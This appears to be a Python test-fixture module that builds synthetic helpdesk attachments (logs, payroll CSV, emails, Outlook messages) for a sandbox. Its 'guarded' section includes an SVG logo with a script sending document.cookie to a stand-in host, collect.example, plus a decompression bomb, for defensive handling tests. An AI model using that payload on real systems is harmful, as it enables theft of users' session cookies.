"""Attachments: files of every kind that people attach, including dangerous ones."""

from datetime import UTC, datetime

from scout_mcp.sandbox import outlook_file, sample_files
from scout_mcp.sandbox.dataset import Dataset
from scout_mcp.sandbox.people_and_clients import COMPANY_ID, SITE

_HUGE = 200 * 1024 * 1024


def inline(guid: str) -> str:
    """Return the Markdown of an image inside a note, as ConnectWise writes it."""
    return f"![](https://{SITE}/v4_6_release/api/inlineimages/{COMPANY_ID}/{guid})"


def add(dataset: Dataset) -> None:
    """Add the scenarios to the data set."""
    _scanner(dataset)
    _offices(dataset)
    _mails(dataset)
    _guarded(dataset)
    _images(dataset)
    _outlook_messages(dataset)


def _scanner(dataset: Dataset) -> None:
    screen = sample_files.picture(
        "SCAN TO FOLDER FAILED", "ERROR E-402", "DESTINATION DISK FULL", "", "SHARE: FS01/SCANS"
    )
    dataset.document(
        48213, "Screen of the scanner", "scanner-screen.png", screen, by="tbright", at="2026-11-20T06:50:00Z"
    )
    lines = [
        f"2026-11-20 {3 + n // 600:02}:{n // 10 % 60:02}:{n % 10 * 6:02} scand  room {n % 4 + 1}  page {n:05} written"
        for n in range(1500)
    ]
    lines[640] = "2026-11-20 04:04:00 scand  room 4  ERROR 112: no space left, quota 250 GB of 250 GB, user svc-scan"
    log = "\r\n".join(lines).encode() + b"\r\n"
    dataset.document(
        48213, "Log of the scan service", "scan-service.log", log, by="mkessler", at="2026-11-20T09:20:00Z"
    )
    report = sample_files.pdf(
        ("Quota report of FS01", "20 November 2026", "", "Share        Quota      Used",
         "scans        250 GB     250 GB", "letters      100 GB     38 GB"),
        ("What fills the share scans", "", "2019 to 2021    141 GB", "2022 to 2026    109 GB",
         "Largest folder: room-2/2020 (61 GB)"),
    )  # fmt: skip
    dataset.document(48213, "Quota report", "quota-report.pdf", report, by="mkessler", at="2026-11-20T09:40:00Z")


def _offices(dataset: Dataset) -> None:
    rows = [f"{n};Employee {n};{1800 + n * 13 % 2400}.00" for n in range(1, 1141)]
    rows[800 - 1] = "800;Okoro; Chidi;3120.00"
    rows[962 - 1] = "962;Vale; Ingrid;2890.00"
    csv = ("number;name;amount\r\n" + "\r\n".join(rows) + "\r\n").encode("cp1252")
    dataset.document(71240, "Export", "payroll-export.csv", csv, by="mkessler", at="2026-11-23T11:30:00Z")
    letter = sample_files.letter(
        "Quote Q-1193 for Northlight Architects",
        "Twelve laptops with 32 GB: 21,480.00. Twelve docking stations: 2,760.00. Set-up: 1,800.00.",
        "Valid until 30 November 2026.",
    )
    dataset.document(70720, "Quote", "Quote Q-1193.docx", letter, by="khalvorsen", at="2026-11-03T09:14:00Z")
    prices = sample_files.sheet(
        "Prices",
        ("Item", "Each", "Count", "Sum"),
        ("Laptop, 32 GB", 1790.0, 12, 21480.0),
        ("Docking station", 230.0, 12, 2760.0),
        ("Set-up and handover", 150.0, 12, 1800.0),
    )
    dataset.document(70720, "Prices", "prices.xlsx", prices, by="khalvorsen", at="2026-11-03T09:14:30Z")


def _mails(dataset: Dataset) -> None:
    mail = sample_files.mail(
        "VPN again: the log you asked for",
        "Maja Lund-Østby <maja@fjordline.example>",
        "Fjordtech Service Desk <help@fjordtech.example>",
        "Hello,\n\nthe connection dropped at 10:04 and at 10:24. The log of the client is attached.\n\nMaja\n",
        ("vpn.log", "text/plain", b"10:04:11 phase 2 rekey timed out\r\n10:24:13 phase 2 rekey timed out\r\n"),
    )
    dataset.document(71008, "VPN again", "VPN again.eml", mail, by="praman", at="2026-11-23T09:15:00Z")


def _guarded(dataset: Dataset) -> None:
    """Add files that cannot be read or must not be opened."""
    at = "2026-10-29T03:06:00Z"
    locked = sample_files.pdf(("Format of the bank file", "Field 2 must not hold a semicolon."), password="made-up")  # noqa: S106 - opens a made-up file
    dataset.document(71240, "Format of the bank", "bank-format.pdf", locked, by="mkessler", at="2026-11-23T11:40:00Z")
    broken = sample_files.pdf(("Delivery note 5512", "40 rolls of 57 mm"))[:300]
    dataset.document(71247, "Delivery note", "delivery-note.pdf", broken, by="tbright", at="2026-11-24T08:21:00Z")
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60" onload="alert(1)">'
        '<script>fetch("https://collect.example/?c="+document.cookie)</script>'
        '<image href="https://collect.example/p.png"/><text x="10" y="35">Brightwater Veterinary Clinic</text></svg>\n'
    )
    dataset.document(70666, "Logo", "logo.svg", drawing.encode(), by="scoutapi", at=at)
    dataset.document(70666, "Terms", "terms.docx", sample_files.bomb(), by="scoutapi", at=at)
    dataset.document(70666, "Poster", "poster.png", sample_files.wall(20000), by="scoutapi", at=at)
    logs = sample_files.archive(
        ("setup.log", b"06:41:02 step 412 failed\r\n"), ("info.txt", b"Windows 11 Pro 24H2\r\n")
    )
    dataset.document(70888, "Logs of the update", "update-logs.zip", logs, by="omartin", at="2026-11-10T07:05:00Z")
    dataset.document(
        70888, "Trace of the whole night", "trace.log", lambda: sample_files.trace(_HUGE), by="omartin",
        at="2026-11-10T07:10:00Z", size=_HUGE,
    )  # fmt: skip


def _images(dataset: Dataset) -> None:
    """Add the images in the notes of #69420, #71240 and #71247."""
    dataset.images |= {
        "7b0e7f52-6a1d-4a7e-9d5b-0a4f6c1d2e3f": sample_files.picture("FJORDTECH", scale=3),
        "0c9a4f1e-53c2-4f0a-8a44-1f2e3d4c5b6a": sample_files.picture("IMAGE BLOCKED", "HOST: CDN.HARBOURVANCE.EXAMPLE"),
        "9a1c4e70-2b5d-4f63-8c1e-71240a0b0c0d": sample_files.picture("EXPORT STOPPED", "ROW 962: 4 FIELDS, 3 EXPECTED"),
        "3e5f7a91-0d2c-4b68-9f10-71247a0b0c0d": sample_files.picture("THERMAL PAPER", "57 MM X 40 M", "LOT 22-0815"),
    }


def _outlook_messages(dataset: Dataset) -> None:
    help_desk = outlook_file.addressee("Fjordtech Service Desk", "help@fjordtech.example")
    first = outlook_file.message(
        outlook_file.mail_values(
            "Κωδικός",
            ("Ελένη Παπαδοπούλου", "eleni@aegeanfreight.example"),
            "Το παράθυρο ήρθε πάλι στις 08:55.\r\n",
            datetime(2026, 11, 4, 6, 58, tzinfo=UTC),
        ),
        [help_desk],
        embedded=True,
    )
    forwarded = outlook_file.compound_file(
        outlook_file.message(
            outlook_file.mail_values(
                "FW: Κωδικός",
                ("Jo Doe", "jdoe@fjordtech.example"),
                "Forwarded from the customer, with the event log of the PC.\r\n",
                datetime(2026, 11, 4, 9, 40, tzinfo=UTC),
            ),
            [help_desk],
            [
                outlook_file.attached_file(
                    "events.log", "text/plain", b"08:55:02 token rejected: AADSTS50076\r\n08:55:04 prompt shown\r\n"
                ),
                outlook_file.attached_message(first),
            ],
        )
    )
    dataset.document(70781, "FW password", "FW password.msg", forwarded, by="jdoe", at="2026-11-04T09:45:00Z")
